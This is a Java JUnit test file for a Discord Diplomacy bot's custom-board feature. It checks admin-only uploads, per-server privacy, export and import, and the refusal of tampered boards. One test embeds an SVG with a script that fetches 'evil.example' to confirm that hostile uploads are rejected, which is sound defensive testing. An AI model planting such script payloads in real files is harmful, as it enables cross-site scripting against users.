package org.chancery.discord;

import static org.chancery.discord.ChanceryOnDiscordTest.text;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.chancery.command.RenderedMaps;
import org.chancery.discord.fake.FakeChannel;
import org.chancery.discord.fake.FakeDiscord;
import org.chancery.discord.fake.FakeGuild;
import org.chancery.discord.fake.FakeInteraction;
import org.chancery.discord.fake.FakeUser;
import org.chancery.discord.fake.InteractionResponse;
import org.chancery.discord.gateway.DiscordBot;
import org.chancery.discord.posting.Sleeper;
import org.chancery.game.GameService;
import org.chancery.game.TestClock;
import org.chancery.store.Database;
import org.chancery.store.TestStores;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * Issue 35 on Discord: a server admin uploads a board with /variant upload and its attachments, the answer is
 * private with a preview, games are made of it, and another server sees none of it (the privacy matrix: not listed,
 * offered, shown, or usable by id or by key). Each runs on H2 and on PostgreSQL (migration V8's tables).
 */
class BoardsOnDiscordTest {
    static final Duration WAIT = ChanceryOnDiscordTest.WAIT;

    FakeDiscord fake;
    FakeGuild club, rivals;
    FakeChannel channel, elsewhere;
    FakeUser owner, gm, rivalOwner;
    Database db;
    GameService service;
    ChanceryBot bot;

    void start(TestStores.Kind kind) throws Exception {
        fake = FakeDiscord.start();
        owner = fake.user("owner");
        club = fake.guild("Diplomacy Club", owner);
        channel = club.textChannel("boards");
        gm = fake.user("gwen");
        club.join(gm);
        rivalOwner = fake.user("rival");
        rivals = fake.guild("Rival Club", rivalOwner);
        elsewhere = rivals.textChannel("boards");
        db = TestStores.fresh(kind);
        service = new GameService(db, TestClock.at("2030-03-01T12:00:00Z"));
        bot = ChanceryBot.start(new DiscordConfig(fake.token(), Optional.empty(), Optional.empty()), fake.endpoints(),
                service, new RenderedMaps(), DiscordBot.DEFER_AFTER, Sleeper.REAL, Duration.ofMillis(200));
    }

    @AfterEach
    void stop() throws Exception {
        if (bot != null) bot.close();
        if (db != null) db.close();
        if (fake != null) fake.close();
    }

    InteractionResponse answer(FakeInteraction ix) { return ChanceryOnDiscordTest.answer(fake, ix); }

    List<String> choices(FakeInteraction ix) {
        List<InteractionResponse> r = fake.awaitResponses(ix, 1, WAIT);
        assertNotNull(r);
        List<String> out = new ArrayList<>();
        for (JsonNode c : r.get(0).payload().path("data").path("choices")) out.add(c.get("value").asText());
        return out;
    }

    static byte[] sixCrowns() throws Exception { return Files.readAllBytes(Path.of("src/test/resources/upload/six-crowns.json")); }

    InteractionResponse upload(FakeUser who, FakeChannel where, byte[] json, String svg) {
        Map<String, Object> files = new java.util.HashMap<>();
        files.put("json", fake.file("variant.json", json));
        if (svg != null) files.put("picture", fake.file("board.svg", svg.getBytes(StandardCharsets.UTF_8)));
        return answer(fake.slash(who, where, "variant upload", files));
    }

    @ParameterizedTest
    @EnumSource(TestStores.Kind.class)
    void anAdminUploadsABoardAndItsGamesKeepTheirVersion(TestStores.Kind kind) throws Exception {
        start(kind);
        InteractionResponse refusedGm = upload(gm, channel, sixCrowns(), null);
        assertTrue(refusedGm.ephemeral());
        assertTrue(text(refusedGm).contains("Only a server admin"), text(refusedGm));

        InteractionResponse up = upload(owner, channel, sixCrowns(), null);
        assertTrue(up.ephemeral(), "the upload's answer is private");
        assertTrue(text(up).contains("Board 'six-crowns' (Six Crowns) passed every check"), text(up));
        assertEquals("board-six-crowns.png", up.files().get(0).filename(), "a preview of the start, drawn");

        assertTrue(choices(fake.autocomplete(owner, channel, "game create", "variant", "six", Map.of())).contains("six-crowns"));
        InteractionResponse created = answer(fake.slash(gm, channel, "game create", Map.of("variant", "six-crowns")));
        assertTrue(text(created).contains("Game #1 created (Six Crowns)"), text(created));
        String firstKey = service.game(1).variant();
        assertTrue(firstKey.startsWith("u-"), firstKey);

        String changed = new String(sixCrowns(), StandardCharsets.UTF_8).replace("\"victoryCentres\": 13", "\"victoryCentres\": 14");
        InteractionResponse again = upload(owner, channel, changed.getBytes(StandardCharsets.UTF_8), null);
        assertTrue(text(again).contains("as version 2; games already playing it keep the version they started with"), text(again));
        assertEquals(firstKey, service.game(1).variant(), "the running game keeps its version");

        InteractionResponse removing = answer(fake.slash(owner, channel, "variant remove", Map.of("id", "six-crowns")));
        assertTrue(text(removing).contains("is played in game #1"), text(removing));
        InteractionResponse ending = answer(fake.slash(gm, channel, "game end", Map.of()));
        answer(fake.click(gm, channel, ending.message(), "End the game"));
        InteractionResponse removed = answer(fake.slash(owner, channel, "variant remove", Map.of("id", "six-crowns")));
        assertTrue(text(removed).contains("is off this server's list"), text(removed));
        InteractionResponse status = answer(fake.slash(gm, channel, "status", Map.of("game", "1")));
        assertTrue(text(status).contains("Six Crowns"), "an ended game still reads its board: " + text(status));
    }

    @ParameterizedTest
    @EnumSource(TestStores.Kind.class)
    void anotherServerSeesNoneOfIt(TestStores.Kind kind) throws Exception {
        start(kind);
        upload(owner, channel, sixCrowns(), null);
        String key = service.boards().list(String.valueOf(channel.guildId())).get(0).key();

        InteractionResponse list = answer(fake.slash(rivalOwner, elsewhere, "variant list", Map.of()));
        assertTrue(text(list).contains("no boards of its own"), text(list));
        InteractionResponse show = answer(fake.slash(rivalOwner, elsewhere, "variant show", Map.of("id", "six-crowns")));
        assertTrue(text(show).contains("This server has no board 'six-crowns'"), text(show));
        assertTrue(show.files().isEmpty(), "no preview of another server's board");
        List<String> offered = choices(fake.autocomplete(rivalOwner, elsewhere, "game create", "variant", "", Map.of()));
        assertTrue(offered.contains("classic") && !offered.contains("six-crowns"), offered.toString());
        for (String name : List.of("six-crowns", key)) {
            InteractionResponse create = answer(fake.slash(rivalOwner, elsewhere, "game create", Map.of("variant", name)));
            assertTrue(text(create).contains("There is no variant"), text(create));
            assertFalse(text(create).substring(text(create).indexOf("The variants are")).contains("six-crowns"), "the refusal names none of another server's boards: " + text(create));
        }
        InteractionResponse remove = answer(fake.slash(rivalOwner, elsewhere, "variant remove", Map.of("id", "six-crowns")));
        assertTrue(text(remove).contains("no board 'six-crowns'"), text(remove));
        assertEquals(1, service.boards().list(String.valueOf(channel.guildId())).size(), "still on the club's list");
        InteractionResponse inDm = answer(fake.slashInDm(owner, "variant list", Map.of()));
        assertTrue(text(inDm).contains("use this in one of its channels"), text(inDm));
    }

    @ParameterizedTest
    @EnumSource(TestStores.Kind.class)
    void anExportCarriesItsBoardAndTheImportMakesItTheOtherServers(TestStores.Kind kind) throws Exception {
        start(kind);
        upload(owner, channel, sixCrowns(), null);
        answer(fake.slash(gm, channel, "game create", Map.of("variant", "six-crowns")));
        InteractionResponse exported = answer(fake.slash(gm, channel, "game export", Map.of()));
        byte[] json = exported.files().get(0).data();
        assertTrue(new String(json, StandardCharsets.UTF_8).contains("\"board\""), "the export carries the board");
        InteractionResponse imported = answer(fake.slash(rivalOwner, elsewhere, "game import", Map.of("export", fake.file("game-1.json", json))));
        assertTrue(text(imported).contains("Imported as game #2"), text(imported));
        assertEquals(service.game(1).variant(), service.game(2).variant(), "the same version");
        InteractionResponse list = answer(fake.slash(rivalOwner, elsewhere, "variant list", Map.of()));
        assertTrue(text(list).contains("six-crowns"), "now the rival server's too: " + text(list));
        String tampered = new String(json, StandardCharsets.UTF_8).replace("\\\"victoryCentres\\\": 13", "\\\"victoryCentres\\\": 99");
        assertNotEquals(new String(json, StandardCharsets.UTF_8), tampered);
        InteractionResponse refused = answer(fake.slash(rivalOwner, rivals.textChannel("other"), "game import",
                Map.of("export", fake.file("game-1.json", tampered.getBytes(StandardCharsets.UTF_8)))));
        assertTrue(text(refused).contains("The board was refused; nothing was stored") && text(refused).contains("victoryCentres is 99"), text(refused));
    }

    @ParameterizedTest
    @EnumSource(TestStores.Kind.class)
    void aHostileUploadIsRefusedPrivatelyAndKeepsNothing(TestStores.Kind kind) throws Exception {
        start(kind);
        String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('https://evil.example')</script></svg>";
        InteractionResponse r = upload(owner, channel, sixCrowns(), svg);
        assertTrue(r.ephemeral());
        assertTrue(text(r).contains("The board was refused; nothing was stored"), text(r));
        assertTrue(text(r).contains("holds <script>"), text(r));
        assertTrue(service.boards().list(String.valueOf(channel.guildId())).isEmpty());
    }

    /** While Chancery tries one server's board, another server's upload is answered at once, privately, that it is busy. */
    @org.junit.jupiter.api.Test
    void anUploadWhileAnotherIsTriedIsToldToWait() throws Exception {
        start(TestStores.Kind.H2);
        String json = new String(sixCrowns(), StandardCharsets.UTF_8);
        org.chancery.game.HeldTrial trial = new org.chancery.game.HeldTrial();
        Thread other = new Thread(() -> service.boards().upload(new org.chancery.game.Actor("x", "Elsewhere", true), "guild-x",
                new org.chancery.variant.upload.UploadedVariants.Files(json, null), trial));
        other.start();
        try {
            assertTrue(trial.reached());
            InteractionResponse busy = upload(owner, channel, sixCrowns(), null);
            assertTrue(busy.ephemeral());
            assertTrue(text(busy).contains("Chancery is checking another board just now; nothing was stored"), text(busy));
            assertTrue(service.boards().list(String.valueOf(channel.guildId())).isEmpty());
        } finally {
            trial.letGo();
            other.join(30_000);
        }
        InteractionResponse up = upload(owner, channel, sixCrowns(), null);
        assertTrue(text(up).contains("passed every check"), text(up));
    }
}
